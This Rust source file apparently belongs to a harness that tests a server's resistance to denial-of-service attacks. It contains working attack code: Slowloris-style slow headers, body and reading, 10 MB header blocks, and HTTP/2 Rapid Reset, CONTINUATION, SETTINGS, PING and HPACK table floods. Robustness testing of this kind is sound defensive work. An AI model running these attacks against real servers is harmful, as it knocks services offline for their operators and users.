//! One connection of an attacker, until the server closes it.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::time::sleep;

use crate::attackers::attack::Attack;
use crate::tls::api::LARGE_PATH;
use crate::tls::frames::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, Method, PING, RST_STREAM,
    SETTINGS, frame, request,
};
use crate::tls::identity::NAME;
use crate::tokens::PATH;

/// The time between two bytes of a slow client.
const PAUSE: Duration = Duration::from_secs(2);

/// The frames that a flood writes at once.
const FRAMES: usize = 500;

const HEAD_SIZE: usize = 10_000_000;

/// Attacks over a connection. Completes when the server has closed it.
pub(crate) async fn attack<S: AsyncRead + AsyncWrite + Unpin>(
    attack: Attack,
    mut stream: S,
) -> io::Result<()> {
    match attack {
        Attack::Handshakes => return Ok(()),
        Attack::NoHandshake | Attack::NoRequest => {}
        Attack::Idle => stream.write_all(&get(PATH, "")).await?,
        Attack::SlowHeaders => return slow_headers(stream).await,
        Attack::SlowBody => return slow_body(stream).await,
        Attack::SlowReading => return slow_reading(stream).await,
        Attack::LargeHeads => stream.write_all(&large_head()).await?,
        Attack::ClosedWindows => {
            let requests = (0..16_u32).flat_map(|number| {
                let block = request(Method::Get, LARGE_PATH);
                frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &block)
            });
            let requests: Vec<u8> = requests.collect();
            stream.write_all(&frames::opening(0)).await?;
            stream.write_all(&requests).await?;
        }
        _ => return flood(attack, stream).await,
    }
    read_to_end(stream).await
}

fn get(path: &str, fields: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\nHost: {NAME}\r\n{fields}\r\n").into()
}

/// Reads until the server closes the connection, or announces it in HTTP/2.
async fn read_to_end(mut stream: impl AsyncRead + Unpin) -> io::Result<()> {
    let mut buffer = vec![0; 4096];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

async fn slow_headers<S: AsyncRead + AsyncWrite>(stream: S) -> io::Result<()> {
    let (reading, mut writing) = tokio::io::split(stream);
    let head = format!("GET {PATH} HTTP/1.1\r\nHost: {NAME}\r\nX-Slow: ");
    let writing = async {
        writing.write_all(head.as_bytes()).await?;
        trickle(&mut writing).await
    };
    tokio::select! {
        read = read_to_end(reading) => read,
        written = writing => written,
    }
}

async fn slow_body<S: AsyncRead + AsyncWrite>(stream: S) -> io::Result<()> {
    let (reading, mut writing) = tokio::io::split(stream);
    let head = format!(
        "POST {PATH} HTTP/1.1\r\nHost: {NAME}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n\""
    );
    let writing = async {
        writing.write_all(head.as_bytes()).await?;
        trickle(&mut writing).await
    };
    tokio::select! {
        read = read_to_end(reading) => read,
        written = writing => written,
    }
}

/// Writes a byte after each pause, until the connection fails.
async fn trickle(writing: &mut (impl AsyncWrite + Unpin)) -> io::Result<()> {
    loop {
        sleep(PAUSE).await;
        writing.write_all(b"x").await?;
        writing.flush().await?;
    }
}

/// Asks for large responses, and reads some bytes after each pause. A byte that is written shows whether the server has closed
/// the connection.
async fn slow_reading<S: AsyncRead + AsyncWrite>(stream: S) -> io::Result<()> {
    let (mut reading, mut writing) = tokio::io::split(stream);
    writing.write_all(&get(LARGE_PATH, "")).await?;
    let mut buffer = [0; 16];
    loop {
        sleep(PAUSE).await;
        reading.read_exact(&mut buffer).await?;
        writing.write_all(b"\r\n").await?;
        writing.flush().await?;
    }
}

fn large_head() -> Vec<u8> {
    const FIELD: usize = 1000;
    let fields = (0..HEAD_SIZE / FIELD).map(|number| {
        let name = format!("X-{number:05}: ");
        let value = "x".repeat(FIELD - name.len() - 2);
        format!("{name}{value}\r\n")
    });
    get(PATH, &fields.collect::<String>())
}

/// Writes frames without end, and reads the server's, until it closes the connection.
async fn flood<S: AsyncRead + AsyncWrite>(attack: Attack, stream: S) -> io::Result<()> {
    let (reading, mut writing) = tokio::io::split(stream);
    let writing = async {
        writing.write_all(&frames::opening(65_535)).await?;
        writing.write_all(&before(attack)).await?;
        let mut stream = 1;
        let mut sent = 0;
        loop {
            let frames = batch(attack, &mut stream);
            writing.write_all(&frames).await?;
            sent += frames.len();
            if attack == Attack::LargeHeadsHttp2 && sent > HEAD_SIZE {
                return std::future::pending().await;
            }
        }
    };
    let reading = read_to_goaway(reading);
    tokio::pin!(reading);
    tokio::select! {
        read = &mut reading => read,
        written = writing => {
            let _: io::Result<()> = written;
            reading.await
        }
    }
}

/// Reads until the server closes the connection or announces it.
async fn read_to_goaway(mut stream: impl AsyncRead + Unpin) -> io::Result<()> {
    let mut received = Vec::new();
    let mut buffer = vec![0; 16 * 1024];
    loop {
        let length = stream.read(&mut buffer).await?;
        if length == 0 {
            return Ok(());
        }
        received.extend(buffer.get(..length).unwrap_or_default());
        let mut parsed = 0;
        while let Some((frame, length)) = frames::parse(received.get(parsed..).unwrap_or_default())
        {
            if frame.kind == GOAWAY {
                return Ok(());
            }
            parsed += length;
        }
        received.drain(..parsed);
    }
}

/// Returns the frames before a flood.
fn before(attack: Attack) -> Vec<u8> {
    match attack {
        Attack::Continuation | Attack::LargeHeadsHttp2 => {
            frame(HEADERS, END_STREAM, 1, &request(Method::Get, PATH))
        }
        Attack::EmptyData => frame(HEADERS, END_HEADERS, 1, &request(Method::Post, PATH)),
        Attack::HeaderTable => {
            // an entry that fills the table of 4096 bytes
            const WITH_INDEXING: u8 = 0x40;
            let mut block = request(Method::Get, PATH);
            block.push(WITH_INDEXING);
            block.extend(frames::string(b"x"));
            block.extend(frames::string(&[b'x'; 4000]));
            frame(HEADERS, END_HEADERS | END_STREAM, 1, &block)
        }
        _ => Vec::new(),
    }
}

/// Returns the next frames of a flood. `stream` is the last stream that was used.
fn batch(attack: Attack, stream: &mut u32) -> Vec<u8> {
    /// The only entry of the dynamic table.
    const ENTRY: u8 = 0x80 | 0x3e;
    /// The error code of a canceled stream.
    const CANCEL: u32 = 8;
    let mut next_stream = || {
        *stream += 2;
        *stream
    };
    let mut frames = || match attack {
        Attack::RapidReset => {
            let stream = next_stream();
            let reset = frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            [frames::get(stream), reset].concat()
        }
        Attack::Continuation => frame(CONTINUATION, 0, 1, &[]),
        Attack::LargeHeadsHttp2 => {
            let mut block = vec![0];
            block.extend(frames::string(b"x"));
            block.extend(frames::string(&[b'x'; 1000]));
            frame(CONTINUATION, 0, 1, &block)
        }
        Attack::Settings => frame(SETTINGS, 0, 0, &[]),
        Attack::EmptyData => frame(DATA, 0, 1, &[]),
        Attack::HeaderTable => {
            let mut block = request(Method::Get, PATH);
            block.resize(16_000, ENTRY);
            frame(HEADERS, END_HEADERS | END_STREAM, next_stream(), &block)
        }
        _ => frame(PING, 0, 0, &[0; 8]),
    };
    (0..FRAMES).flat_map(|_| frames()).collect()
}
